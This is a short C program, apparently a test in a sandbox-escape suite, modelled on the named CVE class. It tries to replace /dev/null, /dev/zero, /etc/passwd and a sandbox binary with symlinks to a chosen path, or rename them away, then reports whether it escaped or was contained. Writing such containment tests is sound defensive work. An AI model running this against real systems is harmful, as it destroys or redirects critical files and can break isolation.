// CVE-2025-31133 class: swaps a file that masking relies on (/dev/null, /dev/zero) for a link to one that matters (argv[1]).
#include "attack.h"

int main(int argc, char **argv) {
        const char *to = arg(argc, argv, 1);
        static const char *const masks[] = {"/dev/null", "/dev/zero", "/etc/passwd", "/lethe/bin/lethe-slot"};
        for (size_t i = 0; i < sizeof masks / sizeof *masks; i++) {
                if (unlink(masks[i]) == 0 && symlink(to, masks[i]) == 0)
                        escaped("%s is a link to %s now", masks[i], to);
                if (rename(masks[i], "/dev/aside") == 0)
                        escaped("%s was moved away", masks[i]);
        }
        contained("unlink /dev/null");
}
